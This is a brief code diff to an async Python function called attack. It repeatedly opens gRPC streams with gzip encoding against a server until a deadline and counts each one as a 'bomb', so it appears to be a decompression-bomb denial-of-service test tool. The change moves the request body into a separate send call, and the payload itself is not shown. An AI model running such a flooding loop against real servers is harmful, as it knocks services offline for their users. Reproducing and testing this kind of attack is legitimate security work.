@@ -49,7 +49,8 @@ async def attack(
     async def send() -> None:
         connection = await Connection.open(server.host, server.port)
         while time.monotonic() < until:
-            stream = connection.call(path, body, (b"grpc-encoding", b"gzip"))
+            stream = connection.call(path, None, (b"grpc-encoding", b"gzip"))
+            await connection.send(stream, body)
             await asyncio.wait_for(asyncio.shield(connection.ended[stream]), 60)
             outcome.bombs += 1
         await connection.close()
